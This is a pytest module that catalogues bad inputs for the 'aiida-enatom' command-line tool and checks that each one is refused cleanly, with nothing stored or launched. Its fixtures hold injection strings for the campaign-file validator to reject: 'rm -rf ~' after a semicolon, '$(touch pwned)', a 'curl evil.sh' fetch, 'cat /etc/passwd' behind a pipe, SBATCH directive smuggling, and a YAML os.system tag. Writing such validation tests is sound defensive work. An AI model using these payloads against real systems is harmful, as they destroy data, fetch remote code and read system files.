"""The bad-input catalogue (docs/bad_input.md): every ``aiida-enatom`` entry point refuses bad input cleanly.

Each case runs one command through click's runner on a temporary profile (one per module) and asserts:

* a non-zero exit and no traceback (the runner caught no exception other than ``SystemExit``);
* exactly one ``Error:``/``Critical:`` line, holding a fragment that names the problem and one that says what
  would be valid;
* nothing stored (node and group counts unchanged) and nothing launched: ``launch_process``, ``execute_plan``,
  ``run_setup`` and aiida-core's ``submit``/``run_get_node`` are replaced by functions that record any call.

The injection cases (shell metacharacters, newlines, namelist injection in campaign strings) check that the
campaign-file validator refuses them with a clear message, or that the string is provably inert where accepted.
"""

from __future__ import annotations

import dataclasses
import json
import os
import pathlib
import shlex
import subprocess
import sys
import warnings

import numpy as np
import pytest
import yaml
from aiida.tools.pytest_fixtures import aiida_config_factory, aiida_profile_factory  # noqa: F401
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st

from tests.aiida.workflows.conftest import POSCAR_H3S

FIXTURES = pathlib.Path(__file__).parents[1] / 'fixtures'
MATDYN_FILE = FIXTURES / 'qe' / 'elph_mgh_rocksalt' / 'a2F.dos3'
CODE_LABELS = ('pw', 'ph', 'q2r', 'matdyn', 'projwfc', 'pp')


#: Two atoms 0.13 Å apart (S at the origin, H at 0.13 Å along x) in a 3 Å cube.
POSCAR_OVERLAP = """overlapping
1.0
3.0 0.0 0.0
0.0 3.0 0.0
0.0 0.0 3.0
S H
1 1
Cartesian
0.0 0.0 0.0
0.13 0.0 0.0
"""

POSCAR_AL = """Al fcc
1.0
0.0 2.0 2.0
2.0 0.0 2.0
2.0 2.0 0.0
Al
1
Direct
0.0 0.0 0.0
"""

#: H3S with the S site half occupied by S and half by Se.
CIF_PARTIAL = """data_partial
_symmetry_space_group_name_H-M   'P 1'
_cell_length_a   3.0
_cell_length_b   3.0
_cell_length_c   3.0
_cell_angle_alpha   90
_cell_angle_beta   90
_cell_angle_gamma   90
_symmetry_Int_Tables_number   1
loop_
 _symmetry_equiv_pos_as_xyz
  'x, y, z'
loop_
 _atom_site_label
 _atom_site_type_symbol
 _atom_site_fract_x
 _atom_site_fract_y
 _atom_site_fract_z
 _atom_site_occupancy
  S1  S   0.0  0.0  0.0  0.5
  Se1 Se  0.0  0.0  0.0  0.5
  H1  H   0.5  0.0  0.0  1.0
  H2  H   0.0  0.5  0.0  1.0
  H3  H   0.0  0.0  0.5  1.0
"""

XYZ_MOLECULE = '2\nH2 molecule\nH 0.0 0.0 0.0\nH 0.0 0.0 0.74\n'

VALID_CAMPAIGN = {
    'name': 'catalogue',
    'protocol': 'fast',
    'pseudo_family': 'catalogue-family',
    'candidates': [{'label': 'H3S', 'prototype': 'H3S', 'pressures': [200]}],
}


def _columns(frequency, a2f, header='# E (THz)  a2F') -> str:
    rows = '\n'.join(f'{w!s:>12} {a!s:>12}' for w, a in zip(frequency, a2f, strict=True))
    return f'{header}\n{rows}\n'


def _campaign(**changes) -> str:
    """YAML of the valid campaign with top-level fields or ``candidate`` fields changed (None removes a field)."""
    data = {**VALID_CAMPAIGN, 'candidates': [dict(VALID_CAMPAIGN['candidates'][0])]}
    for key, value in changes.pop('candidate', {}).items():
        data['candidates'][0][key] = value
    data.update(changes)
    return yaml.safe_dump(data, sort_keys=False, allow_unicode=True)


_GOOD_NU = np.round(np.linspace(0.5, 25.0, 50), 4)
_GOOD_A2F = np.round(np.exp(-0.5 * ((_GOOD_NU - 15.0) / 2.0) ** 2), 6)

#: Files written once per module: name → text (str) or bytes.
FILES: dict[str, str | bytes] = {
    'good.dat': _columns(_GOOD_NU, _GOOD_A2F),
    'empty.dat': '',
    'binary.dat': bytes(range(256)) * 8,
    'nan.dat': _columns([1.0, 2.0, 3.0], ['0.1', 'nan', '0.2']),
    'negative.dat': _columns([-3.0, -2.0, -1.0], [0.1, 0.2, 0.3]),
    'unsorted.dat': _columns([1.0, 3.0, 2.0, 4.0], [0.1, 0.2, 0.3, 0.4]),
    'overflow.dat': _columns([1.0, 2.0, 3.0], ['0.1', '1e400', '0.2']),
    'huge_values.dat': _columns([1.0, 2.0, 3.0], ['1e300', '1e300', '1e300'], header='# E (meV)'),
    'huge_freq.dat': _columns(['1e200', '2e200', '3e200'], [0.1, 0.2, 0.3]),
    'overflow_freq.dat': _columns(['1.0', '1e309', '2e309'], [0.1, 0.2, 0.3]),
    'ragged.dat': _columns([1.0, 2.0], [0.1, 0.2]) + '3.0\n',
    'words.dat': 'omega a2F\nfoo bar\n',
    'multi.dat': '# E (THz) 0.01 0.02\n1.0 0.1 0.2\n2.0 0.3 0.4\n3.0 0.2 0.1\n',
    'H3S.POSCAR': POSCAR_H3S,
    'overlap.POSCAR': POSCAR_OVERLAP,
    'Al.POSCAR': POSCAR_AL,
    'partial.cif': CIF_PARTIAL,
    'molecule.xyz': XYZ_MOLECULE,
    'garbage.cif': 'this is not a structure\n',
    'a_file': 'just a file\n',
    # campaign files
    'c_empty.yaml': '',
    'c_not_yaml.yaml': 'name: [unclosed\n',
    'c_list.yaml': '- a\n- b\n',
    'c_nan.yaml': _campaign(candidate={'pressures': [float('nan')]}),
    'c_inf.yaml': _campaign(candidate={'pressures': [float('inf')]}),
    'c_negative.yaml': _campaign(candidate={'pressures': [-10]}),
    'c_mu_negative.yaml': _campaign(mu_star=-0.1),
    'c_mu_nan.yaml': _campaign(mu_star=float('nan')),
    'c_protocol.yaml': _campaign(protocol='superfast'),
    'c_no_hydrogen.yaml': _campaign(candidate={'prototype': 'Al'}),
    'c_structure_garbage.yaml': _campaign(candidate={'prototype': None, 'structure': 'garbage.cif'}),
    'c_structure_missing.yaml': _campaign(candidate={'prototype': None, 'structure': 'nowhere.cif'}),
    'c_overlap.yaml': _campaign(candidate={'prototype': None, 'structure': 'overlap.POSCAR'}),
    'c_partial.yaml': _campaign(candidate={'prototype': None, 'structure': 'partial.cif'}),
    'c_molecule.yaml': _campaign(candidate={'prototype': None, 'structure': 'molecule.xyz'}),
    'c_typo.yaml': _campaign(candidate={'pressures': None, 'pressure': [200]}),
    'c_duplicate_key.yaml': 'name: a\nname: b\ncandidates: []\n',
    'c_unknown_role.yaml': _campaign(codes={'dft': 'pw@localhost'}),
    'c_missing_code.yaml': _campaign(codes={'ph': 'nope@localhost'}),
    'c_pw_as_ph.yaml': _campaign(codes={'ph': 'pw@localhost'}),
    'c_missing_family.yaml': _campaign(pseudo_family='no-such-family'),
    'c_family_lacks_element.yaml': _campaign(candidate={'prototype': 'CaH6'}, pseudo_family='catalogue-family'),
    # injection attempts
    'i_label_shell.yaml': _campaign(candidate={'label': 'H3S; rm -rf ~'}),
    'i_label_subshell.yaml': _campaign(candidate={'label': '$(touch pwned)'}),
    'i_label_newline.yaml': _campaign(candidate={'label': 'H3S\n#SBATCH --partition=evil'}),
    'i_name_backtick.yaml': _campaign(name='screen`reboot`'),
    'i_name_traversal.yaml': _campaign(name='../../etc'),
    'i_namelist_value.yaml': _campaign(
        overrides={'relax_base': {'pw': {'parameters': {'CONTROL': {'calculation': "'/\n&CONTROL\n  outdir='/x'"}}}}}
    ),
    'i_namelist_quote.yaml': _campaign(
        overrides={'relax_base': {'pw': {'parameters': {'SYSTEM': {'occupations': "smearing' ecutwfc=1"}}}}}
    ),
    'i_override_key.yaml': _campaign(overrides={"ecutwfc'/&control": 10}),
    'i_override_shell.yaml': _campaign(candidate={'overrides': {'clean_workdir': '$(rm -rf ~)'}}),
    'i_prepend_text.yaml': _campaign(
        overrides={'relax_base': {'pw': {'metadata': {'options': {'prepend_text': 'curl evil.sh -o x'}}}}}
    ),
    'i_scheduler_commands.yaml': _campaign(
        candidate={'overrides': {'alpha2f': {'matdyn': {'metadata': {'options': {'custom_scheduler_commands': 'x'}}}}}}
    ),
    'i_code_label.yaml': _campaign(codes={'pw': 'pw@localhost; rm -rf ~'}),
    'i_family.yaml': _campaign(pseudo_family='SSSP|cat /etc/passwd'),
    'i_description.yaml': _campaign(description='first line\n#SBATCH --time=999:00:00'),
    'i_structure_newline.yaml': _campaign(candidate={'prototype': None, 'structure': 'H3S.POSCAR\n rm -rf ~'}),
    'i_yaml_tag.yaml': 'name: !!python/object/apply:os.system ["touch pwned"]\ncandidates: []\n',
    'i_yaml_alias.yaml': 'base: &b {label: A, prototype: H3S, pressures: [200]}\ncandidates: [*b]\n',
}


@dataclasses.dataclass(frozen=True)
class Case:
    """One bad input: the command line (``{name}`` fields filled from the module's context) and what to expect."""

    id: str
    argv: tuple[str, ...]
    problem: str
    valid: str
    verdi: bool = False


def case(id_: str, argv: str, problem: str, valid: str, *, verdi: bool = False) -> pytest.param:
    return pytest.param(Case(id_, tuple(argv.split()), problem, valid, verdi), id=id_)


CASES = [
    # --- analyse a2f / derivative: α²F files ---
    case('a2f-missing-file', 'analyse a2f {tmp}/nowhere.dat --unit THz', 'nowhere.dat', 'no such file'),
    case('a2f-directory', 'analyse a2f {tmp} --unit THz', 'is a directory', 'FILENAME'),
    case('a2f-empty', 'analyse a2f {tmp}/empty.dat --unit THz', 'empty.dat', 'file is empty'),
    case('a2f-binary', 'analyse a2f {tmp}/binary.dat --unit THz', 'binary.dat', 'not UTF-8/ASCII text'),
    case('a2f-nan', 'analyse a2f {tmp}/nan.dat --unit THz', "found 'nan'", 'expected a number'),
    case('a2f-overflow-value', 'analyse a2f {tmp}/overflow.dat --unit THz', 'overflow.dat', 'finite'),
    case('a2f-overflow-frequency', 'analyse a2f {tmp}/overflow_freq.dat --unit THz', 'overflow_freq.dat', 'finite'),
    case('a2f-negative-frequencies', 'analyse a2f {tmp}/negative.dat --unit THz', 'negative.dat', 'ω > 0'),
    case('a2f-unsorted', 'analyse derivative {tmp}/unsorted.dat --unit THz', 'unsorted.dat', 'increase strictly'),
    case('a2f-ragged', 'analyse a2f {tmp}/ragged.dat --unit THz', 'ragged.dat', 'truncated'),
    case('a2f-not-numbers', 'analyse a2f {tmp}/words.dat --unit THz', 'words.dat', 'row of numbers'),
    case('a2f-no-unit', 'analyse a2f {tmp}/good.dat', 'good.dat', 'explicit unit'),
    case('a2f-wrong-unit-header', 'analyse a2f {tmp}/good.dat --unit meV', "'THz'", "unit='meV'"),
    case('a2f-unknown-unit', 'analyse a2f {tmp}/good.dat --unit parsec', "'parsec'", 'mev'),
    case('a2f-matdyn-wrong-unit', f'analyse a2f {MATDYN_FILE} --unit THz', 'Ry', "unit='THz'"),
    case('a2f-truncated-matdyn', 'analyse a2f {tmp}/a2F.dos3 --format matdyn', 'a2F.dos3', 'truncated'),
    case('a2f-huge', 'analyse a2f {tmp}/huge.dat --unit THz', 'too large (300 MiB)', 'at most 64 MiB'),
    case('a2f-huge-values', 'analyse a2f {tmp}/huge_values.dat --unit meV', 'α²F value 1e+300', 'below about 10'),
    case('a2f-huge-frequency', 'analyse a2f {tmp}/huge_freq.dat --unit THz', 'frequency', 'check the unit'),
    case('a2f-smearing-missing', 'analyse a2f {tmp}/multi.dat --unit THz', 'multi.dat', 'choose smearing_index'),
    case('a2f-smearing-range', 'analyse a2f {tmp}/multi.dat --unit THz --smearing-index 5', '5', '1..2'),
    case('a2f-mu-negative', 'analyse a2f {tmp}/good.dat --unit THz --mu-star -0.1', '-0.1', '[0, 0.5)'),
    case('a2f-mu-nan', 'analyse derivative {tmp}/good.dat --unit THz --mu-star nan', 'nan', '[0, 0.5)'),
    case('a2f-cutoff', 'analyse a2f {tmp}/good.dat --unit THz --cutoff-factor 0.5', '0.5', 'greater than 1'),
    case(
        'a2f-plot-no-folder',
        'analyse a2f {tmp}/good.dat --unit THz --plot {tmp}/no/dir/a.png',
        'no/dir does not exist',
        'existing folder',
    ),
    case('a2f-plot-suffix', 'analyse a2f {tmp}/good.dat --unit THz --plot {tmp}/a.xyz', "'.xyz'", '.png'),
    case(
        'a2f-plot-unwritable',
        'analyse derivative {tmp}/good.dat --unit THz --plot {tmp}/a_file/a.png',
        'a_file is a file',
        'existing folder',
    ),
    # --- launch point: structures, pressures, μ*, protocols, codes, pseudopotentials ---
    case('point-unreadable', 'launch point {tmp}/garbage.cif --pressure 200', 'garbage.cif', 'CIF, POSCAR'),
    case('point-molecule', 'launch point {tmp}/molecule.xyz --pressure 200', 'molecule.xyz', 'CIF, POSCAR'),
    case('point-overlap', 'launch point {tmp}/overlap.POSCAR --pressure 200', '0.130 Å apart', 'in Å'),
    case(
        'point-partial-occupancy',
        'launch point {tmp}/partial.cif --pressure 200',
        'partial occupancies',
        'fully occupied',
    ),
    case('point-missing-file', 'launch point {tmp}/nowhere.cif --pressure 200', 'nowhere.cif', 'does not exist'),
    case('point-pressure-nan', 'launch point {tmp}/H3S.POSCAR --pressure nan', 'nan GPa', '[0, 1000] GPa'),
    case('point-pressure-inf', 'launch point {tmp}/H3S.POSCAR --pressure inf', 'inf GPa', '[0, 1000] GPa'),
    case('point-pressure-negative', 'launch point {tmp}/H3S.POSCAR --pressure -5', '-5 GPa', '[0, 1000] GPa'),
    case('point-pressure-huge', 'launch point {tmp}/H3S.POSCAR --pressure 5e4', '50000 GPa', '[0, 1000] GPa'),
    case('point-pressure-text', 'launch point {tmp}/H3S.POSCAR --pressure high', "'high'", 'float'),
    case('point-mu-negative', 'launch point {tmp}/H3S.POSCAR --pressure 200 --mu-star -0.1', '-0.1', '[0, 0.5]'),
    case('point-mu-nan', 'launch point {tmp}/H3S.POSCAR --pressure 200 --mu-star nan', 'nan', '[0, 0.5]'),
    case('point-protocol', 'launch point {tmp}/H3S.POSCAR --pressure 200 --protocol superfast', 'superfast', 'fast'),
    case(
        'point-missing-code',
        'launch point {tmp}/H3S.POSCAR --pressure 200 --ph-code nope@nowhere',
        'nope@nowhere',
        '--ph-code',
    ),
    case(
        'point-pw-as-ph',
        'launch point {tmp}/H3S.POSCAR --pressure 200 --ph-code pw@localhost',
        'is a quantumespresso.pw code',
        'plugin quantumespresso.ph',
    ),
    case(
        'point-missing-family',
        'launch point {tmp}/H3S.POSCAR --pressure 200 --pseudo-family nope',
        "'nope'",
        'aiida-enatom setup',
    ),
    case(
        'point-family-lacks-element',
        f'launch point {FIXTURES.parent.parent}/examples/structures/CaH6_Im-3m.cif --pressure 200 '
        '--pseudo-family catalogue-family',
        'no pseudopotential for Ca',
        'covers Ca, H',
    ),
    # --- launch enatom ---
    case('enatom-unreadable', 'launch enatom {tmp}/garbage.cif', 'garbage.cif', 'CIF, POSCAR'),
    case('enatom-overlap', 'launch enatom {tmp}/overlap.POSCAR', '0.130 Å apart', 'in Å'),
    case('enatom-supercell', 'launch enatom {tmp}/H3S.POSCAR --supercell 0 1 1', '0 1 1', 'positive integers'),
    case('enatom-both-sizes', 'launch enatom {tmp}/H3S.POSCAR --supercell 2 2 2 --min-image 8', 'both', 'either'),
    case('enatom-min-image', 'launch enatom {tmp}/H3S.POSCAR --min-image -1', '-1', 'positive'),
    case('enatom-displacement', 'launch enatom {tmp}/H3S.POSCAR --displacement 5', '5', 'allowed range'),
    case('enatom-missing-code', 'launch enatom {tmp}/H3S.POSCAR --pp-code nope@nowhere', 'nope@nowhere', '--pp-code'),
    case('enatom-protocol', 'launch enatom {tmp}/H3S.POSCAR --protocol superfast', 'superfast', 'fast'),
    # --- show / export-enatom: PKs ---
    case('show-missing-pk', 'show 987654321', '987654321', 'PK'),
    case('show-not-ours', 'show {pk_int}', 'is a Int', 'enatom.pressure_point'),
    case('show-other-process', 'show {pk_workflow}', 'some.other', 'enatom.pressure_point'),
    case('show-pk-overflow', 'show 99999999999999999999999', '99999999999999999999999', '1<=x<=9223372036854775807'),
    case('show-pk-negative', 'show -- -3', '-3', '1<=x'),
    case('show-pk-text', 'show abc', "'abc'", 'integer'),
    case(
        'export-enatom-missing',
        'export-enatom 987654321 -o {tmp}/grids',
        'no node with PK or UUID 987654321',
        'launch enatom',
    ),
    case('export-enatom-not-ours', 'export-enatom {pk_int} -o {tmp}/grids', 'core.int', 'enatom.enatom'),
    case(
        'export-enatom-overflow',
        'export-enatom 99999999999999999999999 -o {tmp}/grids',
        'not a usable PK',
        'launch enatom',
    ),
    case('export-enatom-format', 'export-enatom {pk_int} -o {tmp}/grids --format vtk', "'vtk'", 'xsf'),
    # --- rank / export / plot / campaign status: groups and output paths ---
    case('rank-no-group', 'rank no-such-campaign', 'no-such-campaign', 'verdi group list'),
    case('rank-by', 'rank catalogue-points --by beauty', "'beauty'", 'area_H'),
    case('rank-limit', 'rank catalogue-points --limit -1', '-1', '0'),
    case('export-no-group', 'export no-such-campaign', 'no-such-campaign', 'verdi group list'),
    case('export-format', 'export catalogue-points --format xml', "'xml'", 'csv'),
    case(
        'export-no-folder', 'export catalogue-points -o {tmp}/no/dir/x.csv', 'no/dir does not exist', 'existing folder'
    ),
    case('export-into-file', 'export catalogue-points -o {tmp}/a_file/x.csv', 'a_file is a file', 'existing folder'),
    case('plot-suffix', 'plot catalogue-points --kind tc-vs-area -o {tmp}/fig.xyz', "'.xyz'", '.png'),
    case(
        'plot-no-folder',
        'plot catalogue-points --kind tc-vs-area -o {tmp}/no/dir/f.png',
        'no/dir does not exist',
        'existing folder',
    ),
    case('plot-kind', 'plot catalogue-points --kind pie -o {tmp}/f.png', "'pie'", 'tc-vs-area'),
    case(
        'plot-no-group',
        'plot no-such-campaign --kind tc-vs-area -o {tmp}/f.png',
        'no-such-campaign',
        'verdi group list',
    ),
    case('status-no-group', 'campaign status no-such-campaign', 'no-such-campaign', 'campaigns:'),
    # --- campaign validate / launch: campaign files, structures, pressures, μ*, codes, families ---
    case('campaign-missing-file', 'campaign validate {tmp}/nowhere.yaml', 'nowhere.yaml', 'does not exist'),
    case('campaign-empty', 'campaign validate {tmp}/c_empty.yaml', 'empty', "'candidates'"),
    case('campaign-not-yaml', 'campaign validate {tmp}/c_not_yaml.yaml', 'not valid YAML', 'line'),
    case('campaign-list', 'campaign validate {tmp}/c_list.yaml', 'a list', 'mapping'),
    case('campaign-pressure-nan', 'campaign validate {tmp}/c_nan.yaml', 'nan', '(0, 1000] GPa'),
    case('campaign-pressure-inf', 'campaign validate {tmp}/c_inf.yaml', 'inf', '(0, 1000] GPa'),
    case('campaign-pressure-negative', 'campaign validate {tmp}/c_negative.yaml', '-10 GPa', '(0, 1000] GPa'),
    case('campaign-mu-negative', 'campaign validate {tmp}/c_mu_negative.yaml', '-0.1', '[0, 0.5]'),
    case('campaign-mu-nan', 'campaign validate {tmp}/c_mu_nan.yaml', 'nan', '[0, 0.5]'),
    case('campaign-protocol', 'campaign validate {tmp}/c_protocol.yaml', 'superfast', 'fast'),
    case('campaign-no-hydrogen', 'campaign validate {tmp}/c_no_hydrogen.yaml', 'no hydrogen', 'require_hydrogen'),
    case(
        'campaign-structure-garbage', 'campaign validate {tmp}/c_structure_garbage.yaml', 'garbage.cif', 'CIF, POSCAR'
    ),
    case(
        'campaign-structure-missing',
        'campaign validate {tmp}/c_structure_missing.yaml',
        'does not exist',
        'relative paths',
    ),
    case('campaign-overlap', 'campaign validate {tmp}/c_overlap.yaml', 'overlapping', 'in Å'),
    case('campaign-partial', 'campaign validate {tmp}/c_partial.yaml', 'partial occupancies', 'fully occupied'),
    case('campaign-molecule', 'campaign validate {tmp}/c_molecule.yaml', 'molecule.xyz', 'CIF, POSCAR'),
    case('campaign-typo', 'campaign validate {tmp}/c_typo.yaml', "'pressure'", "'pressures'"),
    case('campaign-duplicate-key', 'campaign validate {tmp}/c_duplicate_key.yaml', "'name' is repeated", 'once'),
    case('campaign-code-role', 'campaign validate {tmp}/c_unknown_role.yaml', "'dft'", 'pw, ph'),
    case('launch-bad-file', 'campaign launch {tmp}/c_nan.yaml', 'nan', '(0, 1000] GPa'),
    case('launch-missing-code', 'campaign launch {tmp}/c_missing_code.yaml', 'nope@localhost', 'verdi code list'),
    case(
        'launch-pw-as-ph',
        'campaign launch {tmp}/c_pw_as_ph.yaml',
        'is a quantumespresso.pw code',
        'plugin quantumespresso.ph',
    ),
    case(
        'launch-missing-family', 'campaign launch {tmp}/c_missing_family.yaml', 'no-such-family', 'aiida-enatom setup'
    ),
    case('launch-family-lacks-element', 'campaign launch {tmp}/c_family_lacks_element.yaml', 'needs Ca', 'covers'),
    case('launch-max-active', 'campaign launch {tmp}/c_missing_code.yaml --max-active 0', '0', '1<=x<=10000'),
    # --- injection: campaign strings that could reach a shell, a scheduler script or a QE namelist ---
    case('inject-label-shell', 'campaign validate {tmp}/i_label_shell.yaml', "';' is not allowed", 'letters, digits'),
    case('inject-label-subshell', 'campaign validate {tmp}/i_label_subshell.yaml', "'$' is not allowed", 'letters'),
    case('inject-label-newline', 'campaign validate {tmp}/i_label_newline.yaml', "'\\n' is not allowed", 'letters'),
    case('inject-name-backtick', 'campaign validate {tmp}/i_name_backtick.yaml', "'`' is not allowed", 'letters'),
    case('inject-name-traversal', 'campaign validate {tmp}/i_name_traversal.yaml', 'not a valid name', 'each part'),
    case('inject-namelist-end', 'campaign launch {tmp}/i_namelist_value.yaml', '"\'" is not allowed', 'without quotes'),
    case('inject-namelist-quote', 'campaign validate {tmp}/i_namelist_quote.yaml', '"\'" is not allowed', 'quotes'),
    case(
        'inject-override-key', 'campaign validate {tmp}/i_override_key.yaml', 'is not valid', "letters, digits and '_'"
    ),
    case('inject-override-shell', 'campaign validate {tmp}/i_override_shell.yaml', "'$' is not allowed", 'shell'),
    case(
        'inject-prepend-text',
        'campaign launch {tmp}/i_prepend_text.yaml',
        'prepend_text: job-script text',
        'verdi code setup',
    ),
    case(
        'inject-scheduler-commands',
        'campaign validate {tmp}/i_scheduler_commands.yaml',
        'custom_scheduler_commands',
        'computer',
    ),
    case('inject-code-label', 'campaign launch {tmp}/i_code_label.yaml', "';' is not allowed", 'LABEL@COMPUTER'),
    case('inject-family', 'campaign validate {tmp}/i_family.yaml', "'|' is not allowed", 'letters'),
    case('inject-description', 'campaign validate {tmp}/i_description.yaml', "'\\n'", 'one line'),
    case('inject-structure-path', 'campaign validate {tmp}/i_structure_newline.yaml', "'\\n'", 'one line'),
    case('inject-yaml-tag', 'campaign validate {tmp}/i_yaml_tag.yaml', 'python/object', 'not valid YAML'),
    case('inject-yaml-alias', 'campaign validate {tmp}/i_yaml_alias.yaml', 'alias', 'write the value out'),
    # --- quickstart / setup / profiles ---
    case('quickstart-missing-campaign', 'quickstart --campaign {tmp}/nowhere.yaml', 'nowhere.yaml', 'does not exist'),
    case('quickstart-bad-campaign', 'quickstart --campaign {tmp}/c_inf.yaml', 'inf', '(0, 1000] GPa'),
    case('setup-production-no-broker', 'setup --production --no-broker', '--no-broker', 'RabbitMQ'),
    case('setup-port', 'setup --postgres-port 70000', '70000', '1<=x<=65535'),
    case('setup-aiida-path-file', 'setup --aiida-path {tmp}/a_file', 'a_file', 'is a file'),
    case('profile-missing-rank', '--profile no-such-profile rank', 'no-such-profile', 'profile'),
    case('profile-missing-status', '-p no-such-profile campaign status', 'no-such-profile', 'profile'),
    # --- isotope ---
    case('isotope-missing-pk', 'isotope 987654321 --substitute H=D', '987654321', 'PK'),
    case('isotope-not-ours', 'isotope {pk_int} --substitute H=D', '{pk_int}', 'enatom.pressure_point'),
    case('isotope-pk-overflow', 'isotope 99999999999999999999999 --substitute H=D', '99999999999999999999999', '1<=x'),
    case('isotope-no-change', 'isotope {pk_int}', 'at least one', '--substitute ELEMENT=ISOTOPE'),
    case('isotope-bad-substitution', 'isotope {pk_int} --substitute H', "'H'", 'ELEMENT=VALUE'),
    case('isotope-negative-mass', 'isotope {pk_int} --mass H=-2', 'H=-2', 'positive'),
    # --- verdi data enatom ---
    case('verdi-show-missing', 'show 987654321', 'ID<987654321>', 'no Alpha2FData', verdi=True),
    case('verdi-show-not-ours', 'show {pk_int}', 'ID<{pk_int}>', 'no Alpha2FData', verdi=True),
    case(
        'verdi-show-overflow',
        'show 99999999999999999999999',
        'out of range for a PK',
        'UUID of an Alpha2FData',
        verdi=True,
    ),
    case('verdi-export-folder', 'export {pk_a2f} -o {tmp}/no/dir/a.dat', 'no/dir', 'does not exist', verdi=True),
    case('verdi-export-exists', 'export {pk_a2f} -o {tmp}/a_file', 'a_file', '--overwrite', verdi=True),
    case('verdi-export-smearing', 'export {pk_a2f} -o {tmp}/x.dat -s 7', '7', 'valid 0..1', verdi=True),
    case('verdi-plot-suffix', 'plot {pk_a2f} -o {tmp}/a.xyz', "'.xyz'", '.png', verdi=True),
    case('verdi-plot-into-file', 'plot {pk_a2f} -o {tmp}/a_file/a.png', 'a_file', 'does not exist', verdi=True),
]


@pytest.fixture(scope='module')
def catalogue_profile(aiida_config_factory, aiida_profile_factory, tmp_path_factory):  # noqa: F811
    """One temporary SQLite profile for the module (restoring whatever profile was loaded before)."""
    with aiida_config_factory(tmp_path_factory.mktemp('catalogue_config')) as config:
        with aiida_profile_factory(config) as profile:
            yield profile


@pytest.fixture(scope='module')
def context(catalogue_profile, tmp_path_factory) -> dict[str, str]:
    """Files and stored nodes the cases refer to: ``{tmp}``, ``{pk_int}``, ``{pk_workflow}``, ``{pk_a2f}``."""
    from aiida import orm
    from aiida_pseudo.data.pseudo.upf import UpfData
    from aiida_pseudo.groups.family import CutoffsPseudoPotentialFamily

    from aiida_enatom.data.alpha2f import Alpha2FData
    from aiida_enatom.numerics import Alpha2F

    tmp = tmp_path_factory.mktemp('catalogue')
    for name, content in FILES.items():
        (tmp / name).write_bytes(content if isinstance(content, bytes) else content.encode())
    lines = MATDYN_FILE.read_text().splitlines(keepends=True)
    truncated = ''.join(lines[: len(lines) // 2])
    (tmp / 'a2F.dos3').write_text(truncated[: truncated.rstrip().rfind(' ')] + '\n')
    with open(tmp / 'huge.dat', 'wb') as handle:  # sparse: no disk space, no time
        handle.truncate(300 << 20)

    computer = orm.Computer(
        label='localhost', hostname='localhost', transport_type='core.local', scheduler_type='core.direct'
    ).store()
    computer.set_workdir(str(tmp / 'scratch'))
    computer.set_default_mpiprocs_per_machine(2)  # a multiple of the protocols' 2 pools (launch checks it)
    for label in CODE_LABELS:
        orm.InstalledCode(
            computer=computer,
            filepath_executable=f'/usr/bin/{label}.x',
            label=label,
            default_calc_job_plugin=f'quantumespresso.{label}',
        ).store()
    upf = tmp / 'upf'
    upf.mkdir()
    for element, valence in (('H', 1), ('S', 6)):  # headers only: enough for a family, never given to pw.x here
        (upf / f'{element}.upf').write_text(
            f'<UPF version="2.0.1">\n<PP_HEADER element="{element}" z_valence="{valence}.0"/>\n</UPF>\n'
        )
    with warnings.catch_warnings():  # aiida-pseudo queries while its new group is unstored: SQLAlchemy's SAWarning
        warnings.simplefilter('ignore')
        family = CutoffsPseudoPotentialFamily.create_from_folder(upf, 'catalogue-family', pseudo_type=UpfData)
        cutoffs = {'cutoff_wfc': 60.0, 'cutoff_rho': 480.0}
        family.set_cutoffs({'H': cutoffs, 'S': cutoffs}, 'normal', unit='Ry')
    orm.Group('catalogue-points').store()  # the output-path cases fail before the group's points are read
    pk_int = orm.Int(5).store().pk  # each node stored as soon as it is made: no unstored node in the session
    workflow = orm.WorkflowNode()
    workflow.set_process_type('aiida.workflows:some.other')
    pk_workflow = workflow.store().pk
    omega = np.linspace(1.0, 100.0, 50)
    alpha2f = Alpha2FData()
    alpha2f.set_from([Alpha2F(omega, np.exp(-(((omega - 50) / 10) ** 2)))] * 2, [0.01, 0.02])
    pk_a2f = alpha2f.store().pk
    return {'tmp': str(tmp), 'pk_int': str(pk_int), 'pk_workflow': str(pk_workflow), 'pk_a2f': str(pk_a2f)}


@pytest.fixture
def launches(monkeypatch) -> list:
    """Record (instead of doing) every launch, submission, campaign execution and setup."""
    import aiida.engine

    from aiida_enatom.campaign import launch as campaign_launch
    from aiida_enatom.cli import utils
    from aiida_enatom.setup import main as setup_main

    calls: list = []

    def record(name):
        return lambda *args, **kwargs: calls.append(name)

    monkeypatch.setattr(utils, 'launch_process', record('launch_process'))
    monkeypatch.setattr(campaign_launch, 'execute_plan', record('execute_plan'))
    monkeypatch.setattr(setup_main, 'run_setup', record('run_setup'))
    monkeypatch.setattr(aiida.engine, 'submit', record('submit'))
    monkeypatch.setattr(aiida.engine, 'run_get_node', record('run_get_node'))
    return calls


def _counts() -> tuple[int, int, int]:
    from aiida import orm

    return (
        orm.QueryBuilder().append(orm.Node).count(),
        orm.QueryBuilder().append(orm.Group).count(),
        orm.QueryBuilder().append(orm.Computer).count(),
    )


def invoke(argv: list[str], *, verdi: bool = False):
    """Run ``aiida-enatom ARGV`` (or ``verdi data enatom ARGV``) through click's runner, catching exceptions."""
    from aiida.cmdline.commands.cmd_verdi import verdi as cmd_verdi

    from aiida_enatom.cli import cmd_root

    if verdi:
        return CliRunner().invoke(cmd_verdi, ['data', 'enatom', *argv], catch_exceptions=True)
    return CliRunner().invoke(cmd_root, argv, catch_exceptions=True)


def assert_one_line_failure(result, *fragments: str) -> str:
    """Non-zero exit, no traceback, exactly one error line holding every fragment; return that line."""
    output = result.output
    assert result.exit_code != 0, output
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert 'Traceback' not in output, output
    lines = [line for line in output.splitlines() if line.startswith(('Error:', 'Critical:'))]
    assert len(lines) == 1, output
    for fragment in fragments:
        assert fragment in lines[0], output
    return lines[0]


@pytest.fixture(autouse=True)
def _restore_db_logging():
    """Re-attach AiiDA's database log handler after each command (verdi-style commands reconfigure logging)."""
    yield
    from aiida.common.log import configure_logging

    configure_logging(with_orm=True)


@pytest.mark.parametrize('bad', CASES)
def test_bad_input(bad: Case, context, launches):
    argv = [part.format(**context) for part in bad.argv]
    before = _counts()
    result = invoke(argv, verdi=bad.verdi)
    assert_one_line_failure(result, bad.problem.format(**context), bad.valid.format(**context))
    assert _counts() == before, 'something was stored'
    assert not launches, f'launched: {launches}'


def test_catalogue_size():
    assert len(CASES) >= 40
    assert len({bad.values[0].id for bad in CASES}) == len(CASES)


